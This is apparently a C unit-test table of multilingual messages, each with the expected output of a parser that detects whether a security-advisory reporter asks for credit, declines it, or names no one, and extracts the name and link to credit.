	{ "Thanks for the quick fix! Could you tell me when it ships? Best, Jane Doe, https://jane.example",
	  FALSE, FALSE, NULL, NULL },
	/* issue #3, the shapes under the wording (rounds 73-74): a given name
	 * that is a pronoun elsewhere ("Ben", "Lei", "Vi"), "my name" in its
	 * cases and as what is written down, the word "name" as a label before
	 * a name in any script, the word "link" in any script ending the name,
	 * and "my name ... publish ... not" in the verb-last languages */
	{ "Should the advisory list finders, \"Vi Tran\" and https://vitran.example would be great.", TRUE, FALSE,
	  "Vi Tran", "https://vitran.example" },
	{ "Please credit Lei Wang (https://leiwang.example).", TRUE, FALSE, "Lei Wang", "https://leiwang.example" },
	{ "If you thank finders, Ben Adeyemi is fine, no link.", TRUE, FALSE, "Ben Adeyemi", NULL },
	{ "When the advisory goes out, kindly spell my name as Dmitri Volkov.", TRUE, FALSE, "Dmitri Volkov", NULL },
	{ "Wenn Sie ein Advisory veröffentlichen, bitte unter meinem vollen Namen: Katrin Vogelsang.", TRUE, FALSE,
	  "Katrin Vogelsang", NULL },
	{ "Ako objavite obavijest, molim vas, potpišite me mojim imenom: Ivana Kovač.", TRUE, FALSE,
	  "Ivana Kova\xc4\x8d", NULL },
	{ "Jei skelbsite pranešimą, prašau nurodyti mano vardą: Rūta Petraitė.", TRUE, FALSE,
	  "R\xc5\xabta Petrait\xc4\x97", NULL },
	{ "アドバイザリに謝辞を載せていただけるなら、名前は Kenta Mori でお願いします。", TRUE, FALSE, "Kenta Mori", NULL },
	{ "如果公告里有致谢，请写我的名字：Zhou Lin。", TRUE, FALSE, "Zhou Lin", NULL },
	{ "ถ้ามีการให้เครดิตในประกาศ กรุณาใช้ชื่อ สมชาย ใจดี และลิงก์ https://somchai.example ครับ", TRUE, FALSE,
	  "สมชาย ใจดี", "https://somchai.example" },
	{ "अगर आप advisory में श्रेय देते हैं तो नाम: राहुल वर्मा, लिंक https://rahulv.example", TRUE, FALSE,
	  "राहुल वर्मा", "https://rahulv.example" },
	{ "कृपया advisory में मेरा नाम प्रकाशित न करें।", TRUE, TRUE, NULL, NULL },
	{ "공지에는 제 이름을 공개하지 말아 주세요.", TRUE, TRUE, NULL, NULL },
	{ "ขอไม่ให้ใส่ชื่อผมในประกาศครับ", TRUE, TRUE, NULL, NULL },
	/* ... and what they must not catch: a name said in passing, a
	 * signature, an introduction, "do not publish" about the bug */
	{ "Ben Carter from our QA team found this while testing the 0.9 branch.", FALSE, FALSE, NULL, NULL },
	{ "That is all for now.\n\nThanks,\nBen Okafor\n", FALSE, FALSE, NULL, NULL },
	{ "제 이름은 김민호이고 백엔드 개발자입니다.", FALSE, FALSE, NULL, NULL },
	{ "আমার নাম রাকিব, আমি ঢাকায় থাকি।", FALSE, FALSE, NULL, NULL },
	{ "이 버그는 수정 전까지 공개하지 말아 주세요.", FALSE, FALSE, NULL, NULL },
	{ "Wie Sie an meinem Namen sehen, bin ich neu hier.", FALSE, FALSE, NULL, NULL },
	{ "この件は修正されるまで公開しないでください。私の名前は佐藤です。", FALSE, FALSE, NULL, NULL },
	{ "Please do not misspell my name in replies, it has an umlaut.", FALSE, FALSE, NULL, NULL },
	/* (#3) a request that says who to credit, then the name in quotes
	 * after "as", "under" or "with the name", the link after a comma; a
	 * value quoted after "as" in a technical sentence is none */
	{ "Credit: should an advisory come out, please credit the lab rather than the two of us, as \"Greywater Systems Lab\", https://greywater.example/lab .",
	  TRUE, FALSE, "Greywater Systems Lab", "https://greywater.example/lab" },
	{ "We ask that you acknowledge our department, under the name \"Penrose Bank Red Team\", https://redteam.penrose.example",
	  TRUE, FALSE, "Penrose Bank Red Team", "https://redteam.penrose.example" },
	{ "Please list us in the release notes with the name \"Ostrander Security\".", TRUE, FALSE, "Ostrander Security", NULL },
	{ "The API lists the member's role as \"owner\" after the call.", FALSE, FALSE, NULL, NULL },
	{ "The invoice shows the credit card as \"Mastercard\", nothing else.", FALSE, FALSE, NULL, NULL },
	{ "Please don't credit us as \"Ostrander Security\".", TRUE, TRUE, NULL, NULL },
	/* (#3) Slovak and Czech declines: a negated naming verb with the
	 * writer's name as its object, words between; "I do not want to be
	 * named"; no credit wanted; without my name.  A negated verb about
	 * something else, a disclaimer and a colleague's wish are none */
	{ "Prosím, neuvádzajte v bezpečnostnom oznámení moje celé meno.", TRUE, TRUE, NULL, NULL },
	{ "Neuvádějte prosím mé jméno, nechci být jmenován.", TRUE, TRUE, NULL, NULL },
	{ "Ďakujem, ale nechcem byť uvedená v žiadnom oznámení.", TRUE, TRUE, NULL, NULL },
	{ "Nechceme žádný kredit, stačí nám oprava.", TRUE, TRUE, NULL, NULL },
	{ "Oznámenie pokojne zverejnite, ale bez môjho mena.", TRUE, TRUE, NULL, NULL },
	{ "V poděkování mě prosím uveďte anonymně.", TRUE, TRUE, NULL, NULL },
	{ "Neuvádzajte heslo v konfigurácii, démon ho zapíše do denníka.", FALSE, FALSE, NULL, NULL },
	{ "S pozdravom\nMária Kollárová\nTáto správa je dôverná. Ak nie ste adresát, neuvádzajte jej obsah ďalej.",
	  FALSE, FALSE, NULL, NULL },
	{ "Meno sandboxu sa nekontroluje, takže meno s lomkou vedie mimo adresára.", FALSE, FALSE, NULL, NULL },
	{ "Kolegyňa nechce byť menovaná, ale mňa prosím uveďte ako Róbert Šimko.", TRUE, FALSE, "Róbert Šimko", NULL },
	/* (#3) Hungarian requests: the naming verb and "így" in either order,
	 * the infinitive, the name before "néven", "no link needed"; and its
	 * declines.  An anonymous user in the report, a signature with its
	 * disclaimer and another thing to be named are none */
	{ "Ha megjelenik közlemény, kérjük, így szerepeltessenek: Molnár Eszter\n(Dunakeszi Informatika Kft.). Link nem szükséges.",
	  TRUE, FALSE, "Molnár Eszter (Dunakeszi Informatika Kft.)", NULL },
	{ "A következőképpen kérném feltüntetni: Fekete Márton, https://feketem.example", TRUE, FALSE, "Fekete Márton",
	  "https://feketem.example" },
	{ "Kérem, Lakatos Zoltán néven nevezzenek meg a közleményben.", TRUE, FALSE, "Lakatos Zoltán", NULL },
	{ "Kérem, tüntessenek fel így: Pintér Anna. Link nem kell.\nÜdv,\nPintér Anna, https://pinter.example",
	  TRUE, FALSE, "Pintér Anna", NULL },
	{ "Kérem, ne nevezzenek meg.", TRUE, TRUE, NULL, NULL },
	{ "Kérjük, ne szerepeltessék a közleményben a nevünket.", TRUE, TRUE, NULL, NULL },
	{ "Köszönetnyilvánítást nem kérek, a javítás a lényeg.", TRUE, TRUE, NULL, NULL },
	{ "Inkább névtelen maradnék.", TRUE, TRUE, NULL, NULL },
	{ "Egy anonim felhasználó is írhat a socketre, a nevét senki nem ellenőrzi.", FALSE, FALSE, NULL, NULL },
	{ "Üdvözlettel:\nSipos Gergely\nEz az üzenet bizalmas. Ha nem Ön a címzett, kérjük, értesítse a feladót.",
	  FALSE, FALSE, NULL, NULL },
	{ "A fájl neve így szerepel a naplóban: Msb Netd Helper.", FALSE, FALSE, NULL, NULL },
	/* (#3) "name X so", where X is not the writer ("nevezzék meg a
	 * hibát": name the bug), asks for no credit; "említsenek meg a
	 * közleményben" (mention me in the advisory) and "a nevemet" still do */
	{ "Kérem, így nevezzék meg a sérülékenységet: Socket Tükör.", FALSE, FALSE, NULL, NULL },
	{ "Kérjük, említsenek meg a közleményben: Szalai Dóra.", TRUE, FALSE, "Szalai Dóra", NULL },
	{ "Kérem, tüntessék fel a nevemet így: Vass Ákos.", TRUE, FALSE, "Vass Ákos", NULL },
	/* (#3) Hungarian word order is free: the object before the negated
	 * verb, and "név nélkül" (without a name) for anonymously.  "a nevemet"
	 * in a signature or about something else is none */
	{ "A nevemet kérem, ne tüntessék fel a hibajegyben, inkább név nélkül maradnék.", TRUE, TRUE, NULL, NULL },
	{ "A nevünket ne közöljék a kiadási jegyzetekben.", TRUE, TRUE, NULL, NULL },
	{ "Köszönöm a gyors választ. Név nélkül szeretnék maradni.", TRUE, TRUE, NULL, NULL },
	{ "Kérem, ne közöljék a nevemet sehol.", TRUE, TRUE, NULL, NULL },
	{ "A nevemet a bejelentő űrlapon is megadtam, a sandbox neve ne tartalmazzon pontot.", FALSE, FALSE, NULL, NULL },
	{ "Üdvözlettel:\nTóth Réka\n(a nevemet a PGP-kulcsom is igazolja)", FALSE, FALSE, NULL, NULL },
	{ "A konfigurációban a fájl név nélkül is elmenthető, ne tüntessék fel a hibát kisebbnek.", FALSE, FALSE, NULL, NULL },
	/* round 90 (#3): who is credited, then the name in quotes: the
	 * quoted name alone, without "the team," and the quote marks */
	{ "Credit: please credit the team, \"Harbour Seal Security\" (https://harbourseal.example/blog),\n"
	  "not the two of us by name.", TRUE, FALSE, "Harbour Seal Security", "https://harbourseal.example/blog" },
	{ "For the advisory please credit our group \xe2\x80\x9cNorthwind Red Team\xe2\x80\x9d, https://northwind.example",
	  TRUE, FALSE, "Northwind Red Team", "https://northwind.example" },
	{ "Please credit my company, \"Ostara Labs\".", TRUE, FALSE, "Ostara Labs", NULL },
	/* negatives: a team named in passing, a team's name unquoted */
	{ "Our team, \"Platform Ops\", runs the sandboxes on shared runners.", FALSE, FALSE, NULL, NULL },
	{ "Please credit me as \"Ilka Brandt\", my team is not involved.", TRUE, FALSE, "Ilka Brandt", NULL },
	/* round 90 (#3): Turkish wishes that the name appear, the name after
	 * a colon on the same line or the next, or before "olarak anılmak
	 * isterim"; "ismimi ... yazmayın" declines */
	{ "Yama çıktığında bültende adımın geçmesini rica ederim:\nSelin Arslan, https://github.com/selinars",
	  TRUE, FALSE, "Selin Arslan", "https://github.com/selinars" },
	{ "Adımı duyuruda belirtirseniz memnun olurum: Barış Tekin", TRUE, FALSE, "Barış Tekin", NULL },
	{ "Bültende ismimi yazabilirsiniz: Deniz Uçar, https://denizucar.example", TRUE, FALSE, "Deniz Uçar",
	  "https://denizucar.example" },
	{ "Teşekkür kısmında şöyle yer alabilirim: Kaan Yurt", TRUE, FALSE, "Kaan Yurt", NULL },
	{ "Duyuruda Ozan Çelik olarak anılmak isterim.", TRUE, FALSE, "Ozan Çelik", NULL },
	{ "Lütfen duyuruda ismimi yazmayın.", TRUE, TRUE, NULL, NULL },
	{ "Ekibimin adının geçmesine gerek yok, ismimi de eklemeyin.", TRUE, TRUE, NULL, NULL },
	/* negatives: a wish about a server's name, a permission taken back */
	{ "Sunucunun adının değişmesini isterim: eski-api yerine yeni-api.", FALSE, FALSE, NULL, NULL },
	{ "Yapılandırma dosyasına ismimi yazabilirsiniz ama buna gerek yok.", FALSE, FALSE, NULL, NULL },
	/* round 90 (#3): Ukrainian and Russian "no need to mention me" with
	 * the verb before or after "не потрібно", negated imperatives, "прошу
	 * не упоминать", staying anonymous in the feminine */
	{ "Вказувати мене в подяках не потрібно, мені важливо лише виправлення.", TRUE, TRUE, NULL, NULL },
	{ "Не треба згадувати мене в бюлетені.", TRUE, TRUE, NULL, NULL },
	{ "Будь ласка, не вказуйте моє ім'я ніде.", TRUE, TRUE, NULL, NULL },
	{ "Меня в бюллетене упоминать не нужно.", TRUE, TRUE, NULL, NULL },
	{ "Прошу не называть меня в публикации.", TRUE, TRUE, NULL, NULL },
	{ "Я бы хотела остаться анонимной.", TRUE, TRUE, NULL, NULL },
	/* negatives: "no need" about something else; a request still a request */
	{ "Перезапускати msbd не потрібно, достатньо оновити конфіг.", FALSE, FALSE, NULL, NULL },
	{ "Указывать флаг --force при этом не нужно.", FALSE, FALSE, NULL, NULL },
	{ "Прошу згадати мене як Оксана Мельник, https://omelnyk.example", TRUE, FALSE, "Оксана Мельник",
	  "https://omelnyk.example" },
	/* round 90 (#3): Vietnamese asks that end in a colon, the casual
	 * pronouns, thanks "với tên", a name and link split by " - "; "giấu
	 * tên" and "không cần nhắc đến mình" decline */
	{ "Nếu có bản tin bảo mật, vui lòng ghi tên: Đặng Minh Tú - https://minhtu.example/", TRUE, FALSE,
	  "Đặng Minh Tú", "https://minhtu.example/" },
	{ "Ghi công cho bọn mình: Võ Hoàng Long, https://github.com/vhlong", TRUE, FALSE, "Võ Hoàng Long",
	  "https://github.com/vhlong" },
	{ "Khi công bố, xin cảm ơn mình với tên Lý Bảo Ngọc.", TRUE, FALSE, "Lý Bảo Ngọc", NULL },
	{ "Mình xin được giấu tên trong bản tin.", TRUE, TRUE, NULL, NULL },
	{ "Không cần nhắc đến em trong thông báo đâu ạ.", TRUE, TRUE, NULL, NULL },
	/* negatives: thanks to a colleague, a log label */
	{ "Cảm ơn Minh Anh đã giúp mình tái hiện lỗi.", FALSE, FALSE, NULL, NULL },
	{ "Ghi nhận log: Sandbox exec denied cho uid 1002.", FALSE, FALSE, NULL, NULL },
	/* (#3) Italian permission to be cited: "mi potete citare come NAME",
	 * "potete menzionarmi ... come NAME", "citatemi come NAME", "vorrei
	 * essere menzionata come NAME", the link after a comma; a negated one
	 * and "contact me as you like" are none */
	{ "Mi potete ringraziare come Elena Rossi, https://erossi.example", TRUE, FALSE, "Elena Rossi", "https://erossi.example" },
	{ "Potete menzionarmi nell'advisory come Luca Ferri.", TRUE, FALSE, "Luca Ferri", NULL },
	{ "Citatemi pure come Sara Bianchi (https://sbianchi.example).", TRUE, FALSE, "Sara Bianchi", "https://sbianchi.example" },
	{ "Vorrei essere menzionata come Giulia Neri.", TRUE, FALSE, "Giulia Neri", NULL },
	{ "Non mi potete citare come autore, preferisco restare anonimo.", TRUE, TRUE, NULL, NULL },
	{ "Mi potete contattare come preferite, anche per telefono.", FALSE, FALSE, NULL, NULL },
	/* (#3) German conditional offers ("Falls ihr Melder nennt: gern als
	 * NAME,\nURL", "Wenn ihr Finder erwähnt, gerne mit Namen: NAME"),
	 * "nennt mich gern als NAME", "ihr dürft mich als NAME nennen"; an
	 * offer to help is none */
	{ "Falls ihr Finder nennt: gern als Katrin Vogel,\nhttps://github.com/kvogel-sec", TRUE, FALSE, "Katrin Vogel",
	  "https://github.com/kvogel-sec" },
	{ "Wenn ihr Melder erwähnt, gerne mit Namen: Jonas Keller", TRUE, FALSE, "Jonas Keller", NULL },
	{ "Nennt mich gern als Petra Lang (https://plang.example).", TRUE, FALSE, "Petra Lang", "https://plang.example" },
	{ "Ihr dürft mich gerne als Uwe Roth nennen.", TRUE, FALSE, "Uwe Roth", NULL },
	{ "Wenn ihr Fragen habt, meldet euch gern, ich teste das nochmal.", FALSE, FALSE, NULL, NULL },
	/* (#3) Czech and Slovak declines with the object first ("mě prosím
	 * neuvádějte", "ma prosím neuvádzajte") or a "need not" ("nemusíte mě
	 * nikde uvádět", "mě uvádět nemusíte"); a thing not to be given and
	 * "u nás" are none */
	{ "V oznámení mě prosím neuvádějte, hlavně ať je to opravené.", TRUE, TRUE, NULL, NULL },
	{ "Do advisory ma prosím neuvádzajte, oprava mi stačí.", TRUE, TRUE, NULL, NULL },
	{ "Nemusíte mě nikde uvádět, děkuji.", TRUE, TRUE, NULL, NULL },
	{ "Mě uvádět nemusíte, stačí oprava.", TRUE, TRUE, NULL, NULL },
	{ "U nás prosím neuvádějte heslo v konfiguraci.", FALSE, FALSE, NULL, NULL },
	{ "Token prosím neuvádějte do logu, démon ho ukládá.", FALSE, FALSE, NULL, NULL },
	/* (#3) credit under a handle, nickname or alias instead of the real
	 * name: the one word after it is the name, lower case or not; a
	 * capitalised request is unchanged */
	{ "Please credit me under my handle quillfox instead of my real name.", TRUE, FALSE, "quillfox", NULL },
	{ "Credit me as my nick zephyr_x please.", TRUE, FALSE, "zephyr_x", NULL },
	{ "크레딧은 실명 대신 제 닉네임 hanbit 로 표기해 주세요.", TRUE, FALSE, "hanbit", NULL },
	{ "Bitte nennt mich unter meinem Handle nebelkraehe statt meines Klarnamens.", TRUE, FALSE, "nebelkraehe", NULL },
	{ "Potete citarmi con il mio nickname ventola.", TRUE, FALSE, "ventola", NULL },
	{ "I also go by the handle quillfox online; please credit me as Jane Doe.", TRUE, FALSE, "Jane Doe", NULL },
	{ "The sandbox runs under my username builder on the host.", FALSE, FALSE, NULL, NULL },
	/* (#3) a request to be called or credited as a lower-case word takes
	 * the word as written, as a handle; "call me" counts only in a
	 * sentence about the advisory or the credit, and a word that ends the
	 * request without naming anyone ("as well", "back") is no name */
	{ "If an advisory comes out of it you can call me mossgrub, no link needed.", TRUE, FALSE, "mossgrub", NULL },
	{ "For the credits just call me Quiet Heron.", TRUE, FALSE, "Quiet Heron", NULL },
	{ "Please credit me as pebblewise in the advisory.", TRUE, FALSE, "pebblewise", NULL },
	{ "Please credit me as pebblewise ;-) no link, I have none.", TRUE, FALSE, "pebblewise", NULL },
	{ "If it goes in the advisory, call me Ada Quill :) thanks.", TRUE, FALSE, "Ada Quill", NULL },
	{ "Call me at 555 0134 if the repro fails, or call me back tomorrow.", FALSE, FALSE, NULL, NULL },
	{ "If you have questions about the advisory, call me back tomorrow.", FALSE, FALSE, NULL, NULL },
	/* (#3) a request that names the company or team while its individual
	 * people decline to be named credits the organisation, in the
	 * languages a consultancy writes (and the company's "nos" in
	 * Portuguese); the individuals' decline alone, a nameless request
	 * beside it and the writer's own decline stay anonymous */
	{ "Please credit Harbor Point Security (https://hp.example). The individual testers would rather not be named.",
	  TRUE, FALSE, "Harbor Point Security", "https://hp.example" },
	{ "Please credit us as \"Harbor Point Security\". Our consultants prefer not to be named.", TRUE, FALSE,
	  "Harbor Point Security", NULL },
	{ "Bitte nennen Sie uns als \"Nordlicht Security\" (https://nl.example). Unsere Mitarbeiter möchten nicht "
	  "namentlich genannt werden.", TRUE, FALSE, "Nordlicht Security", "https://nl.example" },
	/* Chinese: a comma before "please write", the name quoted (1330);
	 * without a quoted name it names no one */
	{ "如需在公告中致谢，请写「陈可馨（kx_chen）」，不用附链接。", TRUE, FALSE, "陈可馨（kx_chen）", NULL },
	{ "若有致謝，麻煩寫「林孟儒」。", TRUE, FALSE, "林孟儒", NULL },
	{ "我們需要致謝，請寫的說明在附件裡。", FALSE, FALSE, NULL, NULL },
	/* ... or after "please write" and a colon, unquoted, "的话"/"时" before
	 * the comma (1619); a colon with nothing after it names no one */
	{ "如有公開致謝，請註明：陳柏宇（https://boyu.example）", TRUE, FALSE, "陳柏宇", "https://boyu.example" },
	{ "致谢的话，请写：周子涵，不用附链接。", TRUE, FALSE, "周子涵", NULL },
	{ "鸣谢时请写为：Lin Wei https://linwei.example", TRUE, FALSE, "Lin Wei", "https://linwei.example" },
	{ "我們的致謝頁面請寫得簡單一點。", FALSE, FALSE, NULL, NULL },
	/* German: the name right after the condition, its verdict after it
	 * (1651); a capitalised request after the colon names no one */
	{ "Falls ihr Leute nennt: Henrik Saalfeld reicht, ohne Link.", TRUE, FALSE, "Henrik Saalfeld", NULL },
	{ "Wenn Sie Finder erwähnen: Katrin von Alten (https://kva.example).", TRUE, FALSE, "Katrin von Alten",
	  "https://kva.example" },
	{ "Falls ihr Melder nennt, Paul Berger genügt.", TRUE, FALSE, "Paul Berger", NULL },
	{ "Falls ihr Leute nennt: Bitte vorher Bescheid geben.", FALSE, FALSE, NULL, NULL },
	{ "Wenn ihr das nennt: Die Konfiguration war Standard.", FALSE, FALSE, NULL, NULL },
	/* the credit as a subject, the verdict after the name (1631); the team
	 * unnamed is none */
	{ "If you publish something, credit to the \"Harbour Ops team\" is welcome.", TRUE, FALSE, "Harbour Ops team",
	  NULL },
	{ "Credit to Mei Tanaka would be appreciated.", TRUE, FALSE, "Mei Tanaka", NULL },
	{ "Attribution to Ruben Alves (https://ra.example) is welcome.", TRUE, FALSE, "Ruben Alves", "https://ra.example" },
	{ "Credit to the team is welcome, but not needed.", FALSE, FALSE, NULL, NULL },
	/* a third party thanked for something it made, or named by its role,
	 * is no credit asked for; credit for the finding itself still is */
	{ "Credit to Podman for the rootless networking code, which we borrowed.", FALSE, FALSE, NULL, NULL },
	{ "Credit goes to Firecracker for its jailer design.", FALSE, FALSE, NULL, NULL },
	{ "Credit to the Kata folks for an idea we reused here.", FALSE, FALSE, NULL, NULL },
	{ "Honestly, credit to \"upstream\" would be fair here.", FALSE, FALSE, NULL, NULL },
	{ "Credit should go to the original authors, not me.", FALSE, FALSE, NULL, NULL },
	{ "Please credit the vendor.", FALSE, FALSE, NULL, NULL },
	{ "Credit to Lena Brandt for the report would be appreciated.", TRUE, FALSE, "Lena Brandt", NULL },
	{ "Credit goes to Malik Osei for the container escape.", TRUE, FALSE, "Malik Osei", NULL },
	{ "Credit to Rosa Ilves for spotting it, please.", TRUE, FALSE, "Rosa Ilves", NULL },
	{ "Please credit \"Fjord Red Team\" for the finding (https://fjord.example).", TRUE, FALSE, "Fjord Red Team",
	  "https://fjord.example" },
	/* a conditional about crediting, then the names after a comma, two
	 * people and their lab (1641); something else named is none */
	{ "If you credit the finding, please name Omar Farouk and Lise Berg, Systems Group, Tarnby College "
	  "(https://sg.tarnby.example).", TRUE, FALSE, "Omar Farouk and Lise Berg, Systems Group, Tarnby College",
	  "https://sg.tarnby.example" },
	{ "If you mention it in the advisory, please use \"Kestrel Labs\" (https://kestrel.example).", TRUE, FALSE,
	  "Kestrel Labs", "https://kestrel.example" },
	{ "If you credit the finding, please name the fix commit after the issue number.", FALSE, FALSE, NULL, NULL },
	/* a title or a subject named, not a person */
	{ "If you credit the finding, please name Mount leak in the title.", FALSE, FALSE, NULL, NULL },
	{ "When you acknowledge this, use \"Snapshot path traversal\" as the advisory's headline.", FALSE, FALSE, NULL,
	  NULL },
	{ "Please name Guest Clock Skew as the subject of the advisory.", FALSE, FALSE, NULL, NULL },
	{ "If you credit the finding, please name Ana Lima and Bo Chen, Mesh Lab, Orrin University.", TRUE, FALSE,
	  "Ana Lima and Bo Chen, Mesh Lab, Orrin University", NULL },
	{ "If you credit the finding, please name Teo Marsh in the advisory.", TRUE, FALSE, "Teo Marsh", NULL },
	/* a colleague's wish passed on with a pronoun, the person named in the
	 * sentence before by a word for them, the full name further on (1269);
	 * a company named before the pronoun is none */
	{ "Forwarding this from Dara (a student in our lab). She'd like to be credited.\n\n"
	  "---------- Forwarded message ---------\nFrom: Dara Quill <dara.quill@uni.example>\n\nHi,\n"
	  "the jailer leaks file descriptors.\n", TRUE, FALSE, "Dara Quill", NULL },
	{ "Passing on a report by my colleague Ilya Brandt. He would like to be acknowledged in the advisory.", TRUE,
	  FALSE, "Ilya Brandt", NULL },
	{ "We took the seccomp profile from Docker. They'd like to be mentioned in the NOTICE file.", FALSE, FALSE,
	  NULL, NULL },
	/* a template's Credit field naming the form of credit: the researcher
	 * field's name, or handle (1659); "Anonymous" declines; a quoted
	 * template is someone else's, and a signature is no request */
	{ "Reporter:    Sofia Lindqvist (slindq)\nCredit:      Name + website (https://sl.example)\n", TRUE, FALSE,
	  "Sofia Lindqvist", "https://sl.example" },
	{ "Submitted by: Tomas Novak\nAttribution: Full name and link (https://tn.example)\n", TRUE, FALSE,
	  "Tomas Novak", "https://tn.example" },
	{ "Hunter: Sofia Lindqvist (slindq)\nCredit: Handle only\n", TRUE, FALSE, "slindq", NULL },
	{ "Researcher: Priya Raman (praman)\nCredit: Anonymous\n", TRUE, TRUE, NULL, NULL },
	{ "> Researcher: Karl Odin\n> Credit: Name only\n\nThanks, we will look into it.", FALSE, FALSE, NULL, NULL },
	{ "Thanks,\nKarl Odin\nResearcher, Odin Labs\n", FALSE, FALSE, NULL, NULL },
	/* a web form's credit field repeated in its confirmation, after dot
	 * leaders, a column's gap or under a bracketed label (1694); a
	 * placeholder, a vendor's or a reporter's field is no request */
	{ "Vendor ........... Superrad Company\nDiscoverer(s)/Credits ..... Amara Okafor\nReference(s) ...... N/A\n", TRUE,
	  FALSE, "Amara Okafor", NULL },
	{ "[Discoverer]\nHenrik Solberg\n\n[Reference]\nN/A\n", TRUE, FALSE, "Henrik Solberg", NULL },
	{ "Acknowledgement / Credit ..... Ilse Varga (https://ivarga.example)\nNotes ..... none\n", TRUE, FALSE,
	  "Ilse Varga", "https://ivarga.example" },
	{ "Credits      Kenji Mori\nImpact       information disclosure\n", TRUE, FALSE, "Kenji Mori", NULL },
	{ "Attribution ........ Anonymous\nImpact ........ DoS\n", TRUE, TRUE, NULL, NULL },
	{ "Discoverer ...... [your name]\nImpact ...... DoS\n", FALSE, FALSE, NULL, NULL },
	{ "Credits ........ TBD\nImpact ........ DoS\n", FALSE, FALSE, NULL, NULL },
	{ "Vendor of the product(s) ..... Superrad Company\nReporter name ..... Ilka Berg\n", FALSE, FALSE, NULL, NULL },
	/* the name the writer goes by, then where ("on GitHub") (1686); going
	 * by something else, or no credit spoken of, is none */
	{ "If you credit reporters, I go by @quillon-dev on GitHub\n(https://github.com/quillon-dev).", TRUE, FALSE,
	  "@quillon-dev", "https://github.com/quillon-dev" },
	{ "If you credit finders, I go by kr4ken_sec over on GitLab.", TRUE, FALSE, "kr4ken_sec", NULL },
	{ "If you thank people in the changelog, I'm @mira-ops on Mastodon.", TRUE, FALSE, "@mira-ops", NULL },
	{ "If you credit reporters, we usually go by the name \"Harbor Seal Labs\".", TRUE, FALSE, "Harbor Seal Labs",
	  NULL },
	{ "If you credit reporters, I go by train most days.", FALSE, FALSE, NULL, NULL },
	/* (#3) the mention made conditional, the name after a colon (1929);
	 * the same words over no name give none */
	{ "If you mention it somewhere: Oskar Lindqvist, https://lindqvist.example/oskar", TRUE, FALSE,
	  "Oskar Lindqvist", "https://lindqvist.example/oskar" },
	{ "If you credit this in the advisory: Priya Raman", TRUE, FALSE, "Priya Raman", NULL },
	{ "If you mention it somewhere: no need, really.", FALSE, FALSE, NULL, NULL },
	{ "I go by @quillon-dev on GitHub, where the repro lives.", FALSE, FALSE, NULL, NULL },
	/* German "im" is no "I'm" (1685); the name in any language's quotes
	 * is the quoted name alone */
	{ "Für eine Nennung im Changelog: gerne als «Mara Keller (Nordhafen Logistik AG)», ohne Link.", TRUE, FALSE,
	  "Mara Keller (Nordhafen Logistik AG)", NULL },
	{ "Für die Danksagung im Advisory bitte als »Jonas Feld«, ohne Link.", TRUE, FALSE, "Jonas Feld", NULL },
	{ "Für die Danksagung im Advisory bitte als \u201aJonas Feld\u2018.", TRUE, FALSE, "Jonas Feld", NULL },
	{ "Für die Nennung im Advisory bitte als \u201eJonas Feld\u201d.", TRUE, FALSE, "Jonas Feld", NULL },
	{ "Please credit me as \u2039Odile Marchand\u203a.", TRUE, FALSE, "Odile Marchand", NULL },
	{ "If you credit reporters: im Moment habe ich keine Webseite.", FALSE, FALSE, NULL, NULL },
	{ "Für die Nennung im Advisory: das klären wir später.", FALSE, FALSE, NULL, NULL },
	/* (#3) the name quoted straight after "bitte"/"please", a verb of use,
	 * a link or "only" after it; a quoted command after "bitte" is none */
	{ "Für die Danksagung im Advisory bitte \"Werkstatt Kiel Security\" mit dem Link\n"
	  "https://werkstatt-kiel.example angeben, keine Einzelnamen.", TRUE, FALSE, "Werkstatt Kiel Security",
	  "https://werkstatt-kiel.example" },
	{ "Zur Nennung bitte \u201eLena Brucker\u201c verwenden.", TRUE, FALSE, "Lena Brucker", NULL },
	{ "For the acknowledgement, please \"Quarry Point Labs\" only.", TRUE, FALSE, "Quarry Point Labs", NULL },
	{ "Danke für die Nennung, bitte \"make check\" vorher ausführen.", FALSE, FALSE, NULL, NULL },
	{ "Für die Nennung im Advisory bitte \"Nachtrag folgt\" beachten.", FALSE, FALSE, NULL, NULL },
	/* (#3) Spanish: the impersonal wish over a "ni ... ni" pair of people
	 * is a decline; the same over things is none */
	{ "Os pedimos que no se mencione ni a nuestra empresa ni a mí en el boletín.", TRUE, TRUE, NULL, NULL },
	{ "Preferimos que no se nombre ni a la universidad ni a los alumnos.", TRUE, TRUE, NULL, NULL },
	{ "Preferimos que no se mencione ni la versión ni el puerto.", FALSE, FALSE, NULL, NULL },
	/* (#3) Japanese: the name the mention is to take ("「NAME」としてくだ
	 * さい") after a word of the credit, or of the advisory with one of
	 * writing, the clause wrapped; the individuals' names declined beside
	 * it leave the company's request; a word of writing alone, or the
	 * advisory alone, is none */
	{ "アドバイザリに掲載していただける場合は、\n「有限会社カモメ技研 品質保証部」としてください。\n"
	  "担当者の名前は載せなくて結構です。", TRUE, FALSE, "有限会社カモメ技研 品質保証部", NULL },
	{ "クレジットは「佐々木 亮」としてください。", TRUE, FALSE, "佐々木 亮", NULL },
	{ "設定ファイルに記載する場合は「allow_net=false」としてください。", FALSE, FALSE, NULL, NULL },
	{ "アドバイザリの公開日は「未定」としてください。", FALSE, FALSE, NULL, NULL },
	/* the request as a German noun, the one person who found it declining
	 * for herself (1290); her decline alone stays anonymous */
	{ "Für das Advisory bitten wir um Nennung als \"Rechenzentrum Lindenau CERT\" mit dem Link "
	  "https://rz-lindenau.example/cert. Der beteiligte Doktorand möchte nicht namentlich genannt werden.", TRUE,
	  FALSE, "Rechenzentrum Lindenau CERT", "https://rz-lindenau.example/cert" },
	{ "Ich bitte um eine Erwähnung in den Release Notes als Henrike Vogt, ohne Link.", TRUE, FALSE,
	  "Henrike Vogt", NULL },
	{ "Please credit \"Kestrel Labs\" (https://kestrel.example). Our intern would rather not be named.", TRUE,
	  FALSE, "Kestrel Labs", "https://kestrel.example" },
	{ "Unsere Praktikantin möchte nicht namentlich genannt werden.", TRUE, TRUE, NULL, NULL },
	{ "Wir bitten um vertrauliche Behandlung als Sicherheitsmeldung bis zum Fix.", FALSE, FALSE, NULL, NULL },
	/* the German wish, the name before the passive at the end, the
	 * writer's or relayed; negated it names no one */
	{ "Die Lücke hat meine Kollegin gefunden. Sie möchte gern als \"Mira Albrecht\" erwähnt werden.", TRUE, FALSE,
	  "Mira Albrecht", NULL },
	{ "Ich würde im Advisory als Falk Reimann genannt werden, mit Link https://reimann.example.", TRUE, FALSE,
	  "Falk Reimann", "https://reimann.example" },
	{ "Sie möchte nicht als Entdeckerin genannt werden, bitte nur das Team.", FALSE, FALSE, NULL, NULL },
